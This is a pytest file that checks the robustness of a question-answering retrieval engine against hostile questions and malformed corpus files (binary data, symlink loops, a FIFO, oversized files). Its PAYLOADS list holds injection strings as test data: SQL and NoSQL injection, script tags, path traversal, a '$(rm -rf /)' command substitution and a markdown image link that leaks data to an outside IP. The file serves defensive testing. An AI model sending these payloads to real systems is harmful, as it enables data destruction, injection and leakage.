"""Hostile inputs: questions nobody should type, and corpus files nobody should have.

Questions (engine over the seed index): every input gets an ``Answer`` whose citations are
exact spans, or a ``RagError`` whose message says what to do - never another exception.
Hand-picked cases plus a hypothesis property over arbitrary Unicode (control, zero-width,
right-to-left, emoji, other scripts), near-limit lengths and query-language payloads.

Corpus files: empty, blank, binary, invalid UTF-8, 50 MB, a symlink loop, a dangling link, a
FIFO (reading one waits forever), an unreadable file (root reads anything: the error is
injected), a directory loop. Each bad file is skipped with a clear line; every good one is
indexed. Files that used to take minutes (one long line, a run-on sentence) chunk in time.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import RELIABILITY, ROOT
from crashkit import child_env
from rag import Answer, BadQuestion, Engine, RagError, Settings, Skipped, ingest
from rag.index.chunk import chunk_article, count_tokens
from rag.index.files import discover, load

PAYLOADS = [
    "'; DROP TABLE embeddings; --", "\" OR 1=1 --", "1' UNION SELECT * FROM collections --",
    '{"$where": "sleep(1000)"}', '{"question": null, "k": 99999}', '[{"$ne": null}]',
    "<script>alert(1)</script>", "![x](http://203.0.113.9/leak?q=1)", "../../../../etc/passwd",
    "%s%s%s%n", "{{7*7}} ${7*7} #{7*7}", "$(rm -rf /) `id`", "NaN", "-1", "null", "\\u0000\\x00",
    "Who signed the pact? AND 1=1", "document_id = 'x' OR '1'='1'",
]
SCRIPTS = ["Ко је потписао споразум у Тирани?", "谁在地拉那签署了协议？", "من وقع الاتفاق في تيرانا؟",
           "Wer hat den Pakt in Tirana unterzeichnet?", "ティラナで誰が協定に署名しましたか？",
           "מי חתם על ההסכם?", "Ποιος υπέγραψε τη συμφωνία;", "🙂🙂🙂 pact 🇦🇱🇭🇷 signed? 🤔"]
WORDS = ["Serbia", "Hungary", "pact", "signed", "Tirana", "joint", "activities", "2025", "alliance",
         "how", "many", "who", "when", "the", "?", "Vučić", "NATO", "minister"]
TRIED: list[str] = []  # every question tried, for the report


@pytest.fixture(scope="module", autouse=True)
def _report() -> Iterator[None]:
    """After the module: how many questions were tried, to out/reliability/hostile-inputs.json."""
    yield
    if not TRIED:  # a run that selected none of the question tests
        return
    out = RELIABILITY
    out.mkdir(parents=True, exist_ok=True)
    (out / "hostile-inputs.json").write_text(json.dumps({"questions_tried": len(TRIED)}, indent=2) + "\n")


def _check(engine: Engine, question: object) -> Answer | RagError:
    """Ask; an Answer must have exact citations and a JSON form, an error a useful message."""
    TRIED.append(repr(question)[:80])
    try:
        answer = engine.ask(question)  # type: ignore[arg-type]
    except RagError as exc:
        message = str(exc)
        assert message and len(message) < 400 and "Traceback" not in message
        return exc
    assert isinstance(answer, Answer)
    json.dumps(answer.to_dict())
    for c in answer.citations:
        assert engine.article_text(c.source)[c.start:c.end] == c.quote
        assert f"[{c.n}]" in answer.text
    return answer


@pytest.mark.parametrize(("question", "says"), [
    ("", "empty"), ("   \t\n ", "empty"), ("\u200b\u200f\u202e\ufeff", "empty"),
    ("Who\x00 signed?", "control characters"), ("What\x1b[31m happened", "control characters"),
    ("a" * 100_000, "100,000 characters"), ("?!...", "no words"), (None, "must be text"),
])
def test_bad_questions_get_a_clear_message(engine: Engine, question: object, says: str) -> None:
    outcome = _check(engine, question)
    assert isinstance(outcome, BadQuestion) and says in str(outcome)


@pytest.mark.parametrize("question", PAYLOADS + SCRIPTS)
def test_payloads_and_other_scripts_get_an_answer_or_a_message(engine: Engine, question: str) -> None:
    _check(engine, question)
    assert len(engine.articles()) == 5  # nothing was dropped, whatever the payload said


def test_invisible_characters_do_not_change_the_answer(engine: Engine) -> None:
    plain = engine.ask("How many joint activities does the plan include?")
    marked = engine.ask("How\u200b many joint\u200d activities does the\u2060 plan\u200f include?\ufeff")
    assert not plain.abstained and marked.text == plain.text
    rtl = _check(engine, "\u202eHow many joint activities does the plan include?\u202c")
    assert isinstance(rtl, Answer) and rtl.text == plain.text


QUESTIONS = st.one_of(
    st.text(st.characters(exclude_categories=("Cs",)), max_size=300),  # anything, incl. controls
    st.lists(st.sampled_from(WORDS + PAYLOADS + SCRIPTS + ["\u200b", "\u202e", "\x00", "🙂", "\n"]),
             max_size=12).map(" ".join),
    st.text(st.sampled_from("ab \u200b.?"), min_size=1990, max_size=2010),  # around the limit
)
_HYPOTHESIS = {"deadline": None, "database": None, "suppress_health_check": [HealthCheck.too_slow]}


@settings(max_examples=50, **_HYPOTHESIS)  # type: ignore[arg-type]
@given(QUESTIONS)
def test_any_question_gets_an_answer_or_a_clear_message(engine: Engine, question: str) -> None:
    _check(engine, question)


@pytest.mark.slow
@settings(max_examples=1000, **_HYPOTHESIS)  # type: ignore[arg-type]
@given(QUESTIONS)
def test_a_thousand_questions_get_an_answer_or_a_clear_message(engine: Engine, question: str) -> None:
    _check(engine, question)


def test_batch_cli_reports_bad_lines_and_goes_on(tmp_path: Path, seed_settings: Settings) -> None:
    """``ask --batch``: one JSON line out per line in, errors included; exit code 0."""
    lines = [json.dumps({"id": 1, "question": ""}), "not json at all", json.dumps(["a list"]),
             json.dumps({"id": 4, "question": "\x00"}), json.dumps({"id": 5, "question": PAYLOADS[0]}),
             json.dumps({"id": 6, "question": "How many joint activities does the plan include?"})]
    batch = tmp_path / "q.jsonl"
    batch.write_text("\n".join(lines) + "\n", encoding="utf-8")
    index = seed_settings.index_dir
    done = subprocess.run([sys.executable, "-m", "rag", "ask", "--batch", str(batch), "--index", str(index)],
                          capture_output=True, text=True, cwd=ROOT, env=child_env(), timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    out = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(out) == 6
    assert "empty" in out[0]["error"] and "line 2" in out[1]["error"] and "line 3" in out[2]["error"]
    assert "control characters" in out[3]["error"]
    assert "answer" in out[4] and out[5]["citations"]


# -- corpus files ---------------------------------------------------------------------------------
GOOD = {
    "good.txt": "Bridge pact\n\nThe Drina bridge pact was signed in Visegrad on 4 June 2024 by two mayors.\n",
    "good.md": "# River cleanup\n\nVolunteers removed 37 tonnes of plastic from the Sava river in May.\n",
    "naïve — name with spaces.txt": "Tram line\n\nThe new tram line in Sarajevo carries 12000 riders a day.\n",
    "good.html": "<html><head><title>Port fees</title></head><body><nav>Home</nav><article><h1>Port fees"
                 "</h1><p>The port of Bar raised its fees by 8 percent on 1 March 2025, the harbour "
                 "authority said in a statement on Friday.</p></article></body></html>",
}


def _hostile_folder(root: Path) -> dict[str, str]:
    """Write good and bad files; returns bad file name -> the words its skip reason must contain."""
    root.mkdir()
    for name, text in GOOD.items():
        (root / name).write_text(text, encoding="utf-8")
    (root / "invalid-utf8.txt").write_bytes(b"Cafe prices\n\nZagreb caf\xe9 owners raised prices by "
                                            b"9 percent \x81\x9d after the storm.\n")
    (root / "empty.txt").write_bytes(b"")
    (root / "blank.md").write_text("  \n\n\t\n")
    (root / "binary.txt").write_bytes(os.urandom(4096) + b"\x00" * 64)
    (root / "script-only.html").write_text("<html><script>alert(1)</script></html>")
    (root / "broken.pdf").write_bytes(b"%PDF-1.7\n" + os.urandom(2000))
    with (root / "huge.txt").open("wb") as f:  # 50 MB, over the default 20 MB limit
        f.write(b"All work and no play makes a dull article. " * (50_000_000 // 44 + 1))
    (root / "loop-a.txt").symlink_to(root / "loop-b.txt")
    (root / "loop-b.txt").symlink_to(root / "loop-a.txt")
    (root / "dangling.txt").symlink_to(root / "nowhere.txt")
    os.mkfifo(root / "pipe.txt")
    (root / "unreadable.txt").write_text("Secret\n\nThis file cannot be read.\n")
    (root / "sub").mkdir()
    (root / "sub" / "up").symlink_to(root, target_is_directory=True)  # a directory loop
    return {"empty.txt": "empty", "blank.md": "empty", "binary.txt": "binary",
            "script-only.html": "empty", "broken.pdf": "empty", "huge.txt": "over the 20 MB limit",
            "loop-a.txt": "unreadable", "loop-b.txt": "unreadable", "dangling.txt": "unreadable",
            "pipe.txt": "not a regular file", "unreadable.txt": "Permission denied"}


@pytest.mark.timeout(600)  # a hang guard: reading the FIFO used to block forever
def test_bad_corpus_files_are_skipped_with_a_line_and_nothing_else_is_lost(
        tmp_path: Path, embedder, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "corpus"
    bad = _hostile_folder(folder)
    real_read = Path.read_bytes

    def read_bytes(self: Path) -> bytes:  # fault injection: root can read anything
        if self.name == "unreadable.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real_read(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    lines: list[str] = []
    settings = Settings.from_env({}, index_dir=tmp_path / "index")
    report = ingest([folder], settings, embedder=embedder, log=lines.append)

    reasons = {Path(s.path).name: s.reason for s in report.skipped}
    assert set(reasons) == set(bad)
    for name, words in bad.items():
        assert words in reasons[name], (name, reasons[name])
        assert any(line.startswith(f"skipped {folder / name}: ") for line in lines), name
    assert report.added == len(GOOD) + 1 and report.documents == len(GOOD) + 1
    engine = Engine.open(settings, embedder=embedder)
    sources = {a.source for a in engine.articles()}
    assert sources == set(GOOD) | {"invalid-utf8.txt"}  # sub/up was not followed: no duplicates
    cafe = engine.ask("By how many percent did Zagreb cafe owners raise prices?")
    assert not cafe.abstained and cafe.citations[0].source == "invalid-utf8.txt"
    assert engine.manifest[next(d for d, r in engine.manifest.items()
                                if r.source == "invalid-utf8.txt")].encoding in ("cp1252", "latin-1")


class _Scanned:
    """Wraps a compiled regex and adds up how many characters its searches scan."""

    def __init__(self, pattern: re.Pattern[str]) -> None:
        self.pattern, self.chars = pattern, 0

    def search(self, text: str, pos: int = 0, endpos: int | None = None) -> re.Match[str] | None:
        self.chars += (len(text) if endpos is None else endpos) - pos
        return self.pattern.search(text, pos, len(text) if endpos is None else endpos)


@pytest.mark.timeout(300)  # a hang guard; the work counts below are what the test checks
@pytest.mark.parametrize("text", [
    "The minister said it. " * 5_000,  # one 110 KB line: every full stop looked back to the line start
    "word " * 40_000,  # a 200 KB run-on sentence: every piece re-counted the whole rest
    "中文字" * 15_000,  # 45 KB without spaces: shrunk one character at a time
    "🙂" * 10_000,
], ids=["one-line", "run-on", "cjk", "emoji"])
def test_pathological_files_chunk_in_linear_work(tmp_path: Path, text: str,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Work grows with the file, not with its square: characters tokenized and scanned for
    abbreviations stay within a constant times the file's length (the quadratic code did
    hundreds to thousands of times its length here, i.e. minutes to hours on a 1 MB file)."""
    import rag.index.chunk
    import rag.text

    path = tmp_path / "odd.txt"
    path.write_text("Title\n\n" + text, encoding="utf-8")
    found, _ = discover([path])
    article = load(found[0], 20_000_000)
    assert not isinstance(article, Skipped)
    tokenized = [0]
    real_count = rag.index.chunk.count_tokens

    def counting(texts: list[str]) -> list[int]:
        tokenized[0] += sum(map(len, texts))
        return real_count(texts)

    scanned = _Scanned(rag.text._WORD_BEFORE)
    monkeypatch.setattr(rag.index.chunk, "count_tokens", counting)
    monkeypatch.setattr(rag.text, "_WORD_BEFORE", scanned)
    chunks = chunk_article(article, max_tokens=160, overlap=32)
    assert all(c.text == article.text[c.start:c.end] for c in chunks)
    assert max(count_tokens([c.text for c in chunks])) <= 160
    assert chunks[-1].end == len(article.text.rstrip())
    assert tokenized[0] <= 100 * len(article.text), tokenized[0] / len(article.text)
    assert scanned.chars <= 10 * len(article.text), scanned.chars / len(article.text)


